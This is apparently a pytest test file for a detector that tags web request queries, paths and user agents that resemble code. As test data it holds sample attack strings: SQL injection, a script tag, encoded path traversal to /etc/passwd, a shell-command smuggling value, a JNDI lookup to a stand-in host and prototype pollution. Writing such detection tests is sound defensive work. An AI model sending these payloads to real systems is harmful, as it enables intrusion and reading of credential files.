from itertools import product

import pyarrow as pa
import pytest

from vedette.features.reading import LEVELS, Reader
from vedette.features.syntax import LANGUAGES
from vedette.records import schema
from vedette.records.batch import RawBatch
from vedette.records.schema import Signal

READER = Reader({(what, level): f"{what}/{level}" for what, level in product(LANGUAGES, LEVELS)})


def marks(**columns: list[str | None]) -> list[str | None]:
    """Return what is marked of a batch of requests, given its columns."""
    names = {"path": schema.PATH, "query": schema.QUERY, "agent": schema.USER_AGENT, "rules": schema.RULES}
    arrays = {names[name]: pa.array(values, pa.string()).dictionary_encode() for name, values in columns.items()}
    batch = READER(RawBatch(Signal.SPAN, pa.RecordBatch.from_pydict(arrays))).columns
    return batch.column(schema.RULES).to_pylist() if schema.RULES in batch.schema.names else [None] * batch.num_rows


@pytest.mark.parametrize(
    ("query", "what"),
    [
        ("id=1%27+or+%271%27%3D%271", "a database query"),
        ("id=1+union+select+name,2+from+users", "a database query"),
        ("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "markup or script"),
        ("f=..%2F..%2F..%2Fetc%2Fpasswd", "paths or another protocol"),
        ("f=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "paths or another protocol"),
        ("h=127.0.0.1%3Bcat+/etc/passwd", "shell commands"),
        ("__proto__[admin]=1", "code objects"),
    ],
)
def test_a_query_that_reads_like_code_is_marked_with_its_language(query: str, what: str) -> None:
    found = marks(query=["page=2", query, None])
    assert found[0] is None
    assert found[2] is None
    assert str(found[1]).startswith(f"{what}/")


@pytest.mark.parametrize(
    "query",
    [
        "name=O%27Brien",
        "q=caf%C3%A9+%F0%9F%8D%B0",
        "q=rock+%26+roll",
        "t=a.b-c_d~e",
        "to=2026-11-26T12:00:00%2B01:00",
        "",
    ],
)
def test_ordinary_values_are_not_marked(query: str) -> None:
    assert marks(query=[query]) == [None]


def test_paths_and_user_agents_are_read_too() -> None:
    agents = ["Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "${jndi:ldap://x.example/a}"]
    assert marks(agent=agents)[0] is None
    assert marks(agent=agents)[1] is not None
    assert marks(path=["/static/../../../../etc/passwd", "/shop/item/7"])[0] is not None
    assert marks(path=["/shop/item/7"]) == [None]


def test_marks_of_rules_are_kept() -> None:
    found = marks(query=["q=%27+union+select+1,2--+", "a=1"], rules=["one two", "three"])
    assert str(found[0]).startswith("one two a database query/")
    assert found[1] == "three"


def test_what_reads_more_like_code_gets_the_higher_level() -> None:
    found = marks(query=["id=1%27+union+select+password+from+users--+"])
    assert found == ["a database query/high"]


def test_metrics_pass_as_they_are() -> None:
    batch = RawBatch(Signal.METRIC, pa.RecordBatch.from_pydict({schema.METRIC_NAME: pa.array(["' or 1=1 --"])}))
    assert READER(batch) is batch
